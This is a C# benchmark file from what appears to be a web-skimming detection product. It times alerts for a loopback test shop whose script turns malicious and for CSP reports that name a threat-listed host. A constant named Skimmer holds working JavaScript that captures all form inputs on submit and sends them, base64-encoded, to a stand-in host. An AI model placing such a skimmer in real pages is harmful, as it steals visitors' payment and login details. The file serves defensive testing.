using System.Diagnostics;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using PageShield.Accounts;
using PageShield.Benchmarks.Reports;
using PageShield.Storage;

namespace PageShield.Benchmarks.Dashboard;

/// <summary>
/// From the first crawl, or the first visitor's report, of a malicious script to the delivered webhook: the real server in a process of its
/// own, a real Chromium, a shop on loopback whose script turns bad, a receiver that notes when the alert comes. Each round is a new site.
/// Prints <c>time_to_alert.crawl.p95_ms</c>, <c>time_to_alert.report.p95_ms</c> and their greater one, <c>time_to_alert.p95_ms</c>.
/// </summary>
internal static class TimeToAlertBenchmark
{
    private const string Skimmer = """
        document.addEventListener('submit', function () {
          var d = {}; document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; });
          new Image().src = 'https://collect.cdn-statistics.example/p.gif?d=' + btoa(JSON.stringify(d)) + '&v=ROUND';
        }, true);
        """;

    private const string Harmless = """{"csp-report":{"document-uri":"https://elsewhere.example/","effective-directive":"img-src","blocked-uri":"https://elsewhere.example/x.png"}}""";

    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    public static async Task RunAsync(string[] arguments, CancellationToken cancellationToken)
    {
        var rounds = Figures.IsFull ? 10 : 3;
        var folder = Directory.CreateTempSubdirectory("time-to-alert-").FullName;
        Directory.CreateDirectory(Path.Combine(folder, "intelligence"));
        await File.WriteAllTextAsync(Path.Combine(folder, "intelligence", "bench.hosts"), "0.0.0.0 evil-metrics.example\n", cancellationToken);
        await using var outside = await OutsideWorld.StartAsync(cancellationToken);
        var ports = Enumerable.Range(0, 3).Select(_ => ServedProcess.FreePort()).ToArray();
        await using (var server = await ServedProcess.StartWebAsync(
            [
                $"--PageShield:DataDirectory={folder}", $"--PageShield:Dashboard=http://127.0.0.1:{ports[0]}",
                $"--PageShield:Reports=http://127.0.0.1:{ports[1]}", $"--PageShield:Demo=http://127.0.0.1:{ports[2]}",
            ], cancellationToken))
        {
            using var api = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{ports[0]}") };
            api.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", await TokenAsync(folder, cancellationToken));
            await PostAsync(api, "/api/channels",
                new
                {
                    name = "bench",
                    kind = "webhook",
                    target = $"http://127.0.0.1:{outside.Port}/hook",
                    allowPrivate = new[] { $"127.0.0.1:{outside.Port}" }
                }, cancellationToken);

            var (crawls, reports) = (new List<double>(), new List<double>());
            for (var round = 0; round < rounds; round++)
            {
                outside.Script = "window.ready = true;";
                crawls.Add(await CrawlAsync(api, outside, round, cancellationToken));
            }

            for (var round = 0; round < rounds; round++) reports.Add(await ReportAsync(api, outside, ports[1], round, cancellationToken));
            Print("time_to_alert.crawl", crawls);
            Print("time_to_alert.report", reports);
            Figures.Print("time_to_alert.p95_ms", Math.Max(Percentile(crawls, 0.95), Percentile(reports, 0.95)), "ms");
        }

        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        Directory.Delete(folder, recursive: true);
    }

    /// <summary>A clean baseline, then the infection; the time runs from the request for the second crawl.</summary>
    private static async Task<double> CrawlAsync(HttpClient api, OutsideWorld outside, int round, CancellationToken cancellationToken)
    {
        var host = $"shop{round}.localhost";
        var site = await PostAsync(
            api, "/api/sites",
            new
            {
                name = $"Crawled {round}",
                hosts = new[] { host },
                startUrls = new[] { $"http://{host}:{outside.Port}/checkout" },
                useSitemap = false,
                followLinks = false,
                comparesPlainFetch = false,
                pageLimit = 1,
                allowPrivate =
                new[] { $"{host}:{outside.Port}" }
            },
            cancellationToken);
        var id = site.GetProperty("id").GetInt32();
        await WaitForCrawlAsync(api, await PostAsync(api, $"/api/sites/{id}/crawls", new { }, cancellationToken), cancellationToken);

        outside.Script = Skimmer.Replace("ROUND", $"{round}-{Guid.NewGuid()}", StringComparison.Ordinal);
        var started = Stopwatch.GetTimestamp();
        var crawl = await PostAsync(api, $"/api/sites/{id}/crawls", new { }, cancellationToken);
        var took = await outside.AlertAsync(id, started, Patience, cancellationToken);
        await WaitForCrawlAsync(api, crawl, cancellationToken);
        return took;
    }

    /// <summary>A visitor's browser names a script from a host on a threat list; the time runs from the POST of the report.</summary>
    private static async Task<double> ReportAsync(HttpClient api, OutsideWorld outside, int port, int round, CancellationToken cancellationToken)
    {
        var host = $"visited{round}.example";
        var site = await PostAsync(api, "/api/sites",
            new { name = $"Visited {round}", hosts = new[] { host }, startUrls = new[] { $"https://{host}/" } }, cancellationToken);
        var (id, key) = (site.GetProperty("id").GetInt32(), site.GetProperty("reportKey").GetString());
        var body = JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["csp-report"] = new Dictionary<string, object>
            {
                ["document-uri"] = $"https://{host}/checkout",
                ["violated-directive"] = "script-src-elem",
                ["effective-directive"] = "script-src-elem",
                ["original-policy"] = "script-src 'self'",
                ["blocked-uri"] = $"https://cdn{round}.evil-metrics.example/tag.js",
                ["disposition"] = "report",
                ["status-code"] = 200,
            },
        });
        using var visitor = new HttpClient();

        // An endpoint hears of a new site within seconds; the visitor comes after that.
        while (!(await ReportAsync(visitor, port, key, Harmless, cancellationToken)).IsSuccessStatusCode) await Task.Delay(200, cancellationToken);
        var started = Stopwatch.GetTimestamp();
        (await ReportAsync(visitor, port, key, body, cancellationToken)).EnsureSuccessStatusCode();
        return await outside.AlertAsync(id, started, Patience, cancellationToken);
    }

    private static async Task<HttpResponseMessage> ReportAsync(
        HttpClient visitor, int port, string? key, string body, CancellationToken cancellationToken)
    {
        using var content = new StringContent(body, Encoding.UTF8, "application/csp-report");
        return await visitor.PostAsync($"http://127.0.0.1:{port}/r/{key}", content, cancellationToken);
    }

    private static async Task WaitForCrawlAsync(HttpClient api, JsonElement crawl, CancellationToken cancellationToken)
    {
        var id = crawl.TryGetProperty("id", out var number) ? number.GetInt64() : crawl.GetProperty("crawlId").GetInt64();
        while (true)
        {
            var state = (await api.GetFromJsonAsync<JsonElement>($"/api/crawls/{id}", cancellationToken)).GetProperty("state").GetString();
            if (state is "completed" or "failed" or "cancelled") return;
            await Task.Delay(100, cancellationToken);
        }
    }

    private static async Task<JsonElement> PostAsync(HttpClient api, string path, object body, CancellationToken cancellationToken)
    {
        using var answer = await api.PostAsJsonAsync(path, body, cancellationToken);
        if (!answer.IsSuccessStatusCode)
            throw new InvalidOperationException($"{path}: {(int)answer.StatusCode} {await answer.Content.ReadAsStringAsync(cancellationToken)}");
        return await answer.Content.ReadFromJsonAsync<JsonElement>(cancellationToken);
    }

    /// <summary>A token straight into the database: the benchmark stands where the operator stands.</summary>
    private static async Task<string> TokenAsync(string folder, CancellationToken cancellationToken)
    {
        var options = new DbContextOptionsBuilder<PageShieldDbContext>();
        options.UsePageShieldSqlite(Path.Combine(folder, Database.FileName));
        await using var database = new PageShieldDbContext(options.Options);
        var issued = new ApiTokens(database, TimeProvider.System).Issue("bench", "admin", null, "bench");
        await database.SaveChangesAsync(cancellationToken);
        return issued.Secret;
    }

    private static void Print(string name, List<double> times)
    {
        Figures.Print($"{name}.p50_ms", Figures.Median(times), "ms");
        Figures.Print($"{name}.p95_ms", Percentile(times, 0.95), "ms");
    }

    private static double Percentile(List<double> times, double share)
    {
        var sorted = times.Order().ToArray();
        return sorted[Math.Min(sorted.Length - 1, (int)Math.Ceiling(sorted.Length * share) - 1)];
    }
}
